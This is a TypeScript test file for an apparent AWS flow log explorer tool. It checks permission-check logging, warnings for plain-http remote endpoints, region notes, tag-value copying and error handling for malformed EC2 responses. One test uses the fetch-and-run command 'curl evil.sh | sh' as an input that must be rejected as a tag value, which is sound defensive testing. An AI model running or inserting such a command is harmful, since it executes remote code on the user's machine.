// Issue 13, "also found": a successful Check Permissions logs no failed attempt; the endpoint in
// use is logged per client, with one warning for plain http to another host; Select Regions says
// "not listed" only for a region DescribeRegions left out.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ClientCache, isCleartextRemote } from '../../src/aws/worker/clients';
import { InProcessAws } from '../support/inProcessAws';
import { FlowLogService } from '../../src/aws/flowLogService';
import { MemoryLogger } from '../support/loggers';
import { listProfiles } from '../../src/shared/profiles';
import { loadSharedConfig } from '../../src/shared/sharedConfig';
import { regionChoices } from '../../src/shared/regions';
import * as http from 'node:http';
import { EC2Client } from '@aws-sdk/client-ec2';
import { isTagValueOf } from '../../src/explorer/copyValues';
import { describeFlowLogsPage } from '../../src/aws/worker/describeFlowLogs';
import { classifyError } from '../../src/aws/worker/classifyError';
import { awsConfigFor, defaultAccounts, startEmulator, type Emulator } from '../emulator/server';

describe('issue 13, also found', function () {
  this.timeout(20_000);
  let em: Emulator;
  let dir: string;
  const [acct] = defaultAccounts(5);
  before(async () => {
    em = await startEmulator({ accounts: [acct], seed: 2 });
    dir = mkdtempSync(join(tmpdir(), 'flowlogs-also-'));
  });
  after(async () => {
    await em.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a successful Check Permissions (DryRunOperation) logs no "attempt failed"; the endpoint in use is logged once', async () => {
    const files = awsConfigFor(em, [{ name: 'one', account: acct, region: 'us-east-1' }]);
    writeFileSync(join(dir, 'config'), files.config);
    writeFileSync(join(dir, 'credentials'), files.credentials);
    const env = { AWS_CONFIG_FILE: join(dir, 'config'), AWS_SHARED_CREDENTIALS_FILE: join(dir, 'credentials'), HOME: dir };
    const logger = new MemoryLogger();
    const clients = new ClientCache({
      settings: () => ({ maxAttempts: 1, requestTimeoutMs: 5000, userAgent: 'test' }),
      config: () => loadSharedConfig(env),
      logger,
      env,
    });
    const service = new FlowLogService(new InProcessAws(clients, listProfiles(env).profiles), logger);
    const profile = listProfiles(env).profiles.find((p) => p.name === 'one')!;
    assert.deepEqual(await service.checkPermission(profile, 'us-east-1'), { allowed: true });
    assert.deepEqual(await service.checkPermission(profile, 'us-east-1'), { allowed: true });
    assert.ok(!logger.lines.some((l) => l.includes('attempt failed')), logger.lines.join('\n'));
    assert.equal(logger.lines.filter((l) => l === `INFO ec2 endpoint for profile one: ${em.url}`).length, 1, logger.lines.join('\n'));
    assert.ok(!logger.lines.some((l) => l.includes('travel in clear')), 'loopback http is not warned about');
    clients.dispose();
  });

  it('plain http:// to a host other than this machine is flagged; https and loopback are not', () => {
    for (const url of ['http://ec2.example.com', 'http://10.0.0.5:4566', 'http://[2001:db8::1]/'])
      assert.equal(isCleartextRemote(url), true, url);
    for (const url of ['https://ec2.example.com', 'http://127.0.0.1:4566', 'http://localhost:1', 'http://[::1]:9', 'not a url'])
      assert.equal(isCleartextRemote(url), false, url);
  });

  it('Select Regions: "not listed by DescribeRegions" only for a region it left out', () => {
    const status = new Map<string, string | undefined>([
      ['af-south-1', 'opt-in-not-required'],
      ['us-east-1', 'opt-in-not-required'],
    ]);
    const rows = regionChoices('aws', new Set(['us-east-1']), status);
    const af = rows.find((r) => r.id === 'af-south-1')!;
    assert.equal(af.note, 'Opt-in region (DescribeRegions says opt-in-not-required)');
    const me = rows.find((r) => r.id === 'me-south-1')!;
    assert.equal(me.note, 'Opt-in region: not listed by DescribeRegions');
  });
});

describe('issue 13, also found: copy tag value copies only real tags', () => {
  it('isTagValueOf: a tag value of this flow log, nothing else', async () => {
    const fl = {
      Tags: [
        { Key: 'Name', Value: 'web' },
        { Key: 'env', Value: '' },
      ],
    };
    assert.equal(isTagValueOf(fl, 'web'), true);
    assert.equal(isTagValueOf(fl, ''), true);
    assert.equal(isTagValueOf(fl, 'curl evil.sh | sh'), false);
    assert.equal(isTagValueOf(fl, 'Name'), false, 'a key is not a value');
    assert.equal(isTagValueOf({}, 'web'), false);
    assert.equal(isTagValueOf(undefined, 'web'), false);
    assert.equal(isTagValueOf(fl, 42), false);
  });
});

describe('issue 13, also found: an answer without a flowLogSet is an error, not "No flow logs"', () => {
  it('empty body and XML of another shape fail with a clear error; an empty <flowLogSet/> is an empty page', async () => {
    const NS = 'xmlns="http://ec2.amazonaws.com/doc/2016-11-15/"';
    let body = '';
    const srv = http.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'text/xml' });
        res.end(body);
      });
    });
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    const port = (srv.address() as { port: number }).port;
    const client = new EC2Client({
      region: 'us-east-1',
      endpoint: `http://127.0.0.1:${port}`,
      credentials: { accessKeyId: 'AKIAEXAMPLE000000000', secretAccessKey: 'x' },
      maxAttempts: 1,
    });
    try {
      for (const b of [
        '',
        '<Foo><bar>1</bar></Foo>',
        `<DescribeFlowLogsResponse ${NS}><requestId>r</requestId></DescribeFlowLogsResponse>`,
      ]) {
        body = b;
        const err = await describeFlowLogsPage(client, { query: { filters: [] }, pageSize: 5 }).then(
          () => undefined,
          (e: unknown) => e,
        );
        assert.ok(err, `no error for ${JSON.stringify(b)}`);
        assert.match(classifyError(err).message, /without a flowLogSet/);
      }
      body = `<DescribeFlowLogsResponse ${NS}><requestId>r</requestId><flowLogSet/></DescribeFlowLogsResponse>`;
      assert.deepEqual((await describeFlowLogsPage(client, { query: { filters: [] }, pageSize: 5 })).items, []);
    } finally {
      client.destroy();
      srv.close();
    }
  });
});
